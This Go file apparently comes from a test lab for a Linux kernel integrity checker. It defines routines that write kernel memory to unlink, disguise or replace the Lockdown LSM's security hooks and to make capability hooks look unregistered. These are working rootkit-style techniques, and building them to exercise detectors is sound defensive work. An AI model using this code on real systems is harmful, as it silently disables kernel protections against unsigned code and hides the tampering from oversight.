package lab

import (
	"context"
	"encoding/binary"
	"errors"
)

// securityTampers switch off what decides whether somebody may do something.
var securityTampers = []Tamper{
	{
		Name: "security-hook-off", Check: "linux.pointers",
		Doc:   "have the kernel no longer ask lockdown, which keeps unsigned code out: off the list of that hook, or its static key off",
		apply: silenceLockdown,
	},
	{
		Name: "security-hook-elsewhere", Check: "linux.pointers",
		Doc:   "the same, and have what leads to the hook look as if it was called: it says that it is on another list, or its call goes by another static key, which is on",
		apply: disguiseLockdown,
	},
	{
		Name: "security-hook-replaced", Check: "linux.pointers",
		Doc:   "have a proper function of the kernel that always says yes be lockdown's hook",
		apply: replaceLockdown,
	},
	{
		Name: "security-module-off", Check: "linux.pointers",
		Doc:   "have the capabilities' hooks look as if one of them had never been registered",
		apply: unregisterCapability,
	},
}

// lockdownHook is the first hook of lockdown.
type lockdownHook struct {
	at   uint64 // struct security_hook_list
	list uint64 // bytes, where in it its node (hlist_node) is
	call uint64 // since 6.12, which has no lists: the first slot of that hook, struct lsm_static_call
}

func (c *change) lockdownHook(ctx context.Context) (h lockdownHook, err error) {
	at, err := c.symbols(ctx, "lockdown_hooks")
	if err != nil {
		return h, err
	}
	h.at = at[0]
	if h.list, err = c.offset(ctx, "security_hook_list", "list"); err != nil {
		h.call, err = c.firstCall(ctx, h.at)
	}
	return h, err
}

// firstCall returns the first slot of the kind that a hook is of, since 6.12.
func (c *change) firstCall(ctx context.Context, hook uint64) (uint64, error) {
	slot, err := c.follow(ctx, hook, "security_hook_list.scalls")
	if err != nil {
		return 0, err
	}
	return c.mem.readWord(slot)
}

// silenceLockdown takes the first hook of lockdown off its list, or off its static key
// (since 6.12).
func silenceLockdown(ctx context.Context, c *change) error {
	h, err := c.lockdownHook(ctx)
	if err != nil {
		return err
	}
	return c.silence(ctx, h)
}

func (c *change) silence(ctx context.Context, h lockdownHook) error {
	if h.call == 0 {
		mem, err := c.memory(ctx)
		if err != nil {
			return err
		}
		next, err1 := mem.readWord(h.at + h.list)
		before, err2 := mem.readWord(h.at + h.list + 8)
		if err := errors.Join(err1, err2); err != nil {
			return err
		}
		return c.write(ctx, before, word(next))
	}
	active, err := c.follow(ctx, h.call, "lsm_static_call.active", "static_key.enabled")
	if err != nil {
		return err
	}
	return c.write(ctx, active, binary.LittleEndian.AppendUint32(nil, 0))
}

// disguiseLockdown silences the hook and has it on the list of a hook that only TUN's
// queues are asked for, or go by the key of a capability.
func disguiseLockdown(ctx context.Context, c *change) error {
	h, err := c.lockdownHook(ctx)
	if err != nil {
		return err
	}
	if err := c.silence(ctx, h); err != nil {
		return err
	}
	if h.call == 0 {
		heads, err1 := c.symbols(ctx, "security_hook_heads")
		kind, err2 := c.offset(ctx, "security_hook_heads", "tun_dev_attach_queue")
		head, err3 := c.offset(ctx, "security_hook_list", "head")
		if err := errors.Join(err1, err2, err3); err != nil {
			return err
		}
		elsewhere, node := heads[0]+kind, h.at+h.list
		first, err := c.mem.readWord(elsewhere) // null, or of a module that has each hook
		if err != nil {
			return err
		}
		return errors.Join(c.put(ctx, node, word(first)), c.put(ctx, node+8, word(elsewhere)),
			c.write(ctx, elsewhere, word(node)), c.write(ctx, h.at+head, word(elsewhere)))
	}
	other, err := c.symbols(ctx, "capability_hooks")
	if err != nil {
		return err
	}
	call, err := c.firstCall(ctx, other[0])
	if err != nil {
		return err
	}
	active, err := c.offset(ctx, "lsm_static_call", "active")
	if err != nil {
		return err
	}
	key, err := c.mem.readWord(call + active)
	if err != nil {
		return err
	}
	return c.write(ctx, h.call+active, word(key))
}

// replaceLockdown leaves the text that calls the hook alone, which since 6.12 has the
// function's address in it: that text is for linux.text to find.
func replaceLockdown(ctx context.Context, c *change) error {
	h, err := c.lockdownHook(ctx)
	if err != nil {
		return err
	}
	yes, err := c.symbols(ctx, "cap_mmap_file|cap_mmap_addr")
	if err != nil {
		return err
	}
	hook, err := c.offset(ctx, "security_hook_list", "hook")
	if err != nil {
		return err
	}
	if err := c.write(ctx, h.at+hook, word(yes[0])); err != nil || h.call == 0 {
		return err
	}
	to, err := c.follow(ctx, h.call, "lsm_static_call.key", "static_call_key.func")
	if err != nil {
		return err
	}
	return c.write(ctx, to, word(yes[0]))
}

// unregisterCapability changes what the kernel never reads again.
func unregisterCapability(ctx context.Context, c *change) error {
	at, err := c.symbols(ctx, "capability_hooks")
	if err != nil {
		return err
	}
	owner, err := c.offset(ctx, "security_hook_list", "lsmid")
	if err != nil {
		owner, err = c.offset(ctx, "security_hook_list", "lsm") // up to 6.7
	}
	if err != nil {
		return err
	}
	return c.write(ctx, at[0]+owner, word(0))
}
